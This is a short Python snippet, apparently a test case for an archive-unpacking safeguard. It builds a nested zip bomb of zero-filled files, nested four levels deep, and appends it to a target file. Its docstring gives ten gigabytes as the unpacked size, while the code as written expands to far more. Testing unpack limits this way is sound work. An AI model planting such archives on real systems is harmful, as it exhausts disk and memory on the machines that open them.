"""Archives in archives, ten in each, that unpack to ten gigabytes."""
# control: unpack
# layout: zip
# %% attack on the file
import io, zipfile
inner = ("tools.py", bytes(10 << 20))
for level in range(4):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"{number}-{inner[0]}", inner[1])
    inner = ("more.zip", stream.getvalue())
with zipfile.ZipFile(file, "a") as archive:
    archive.writestr(*inner)
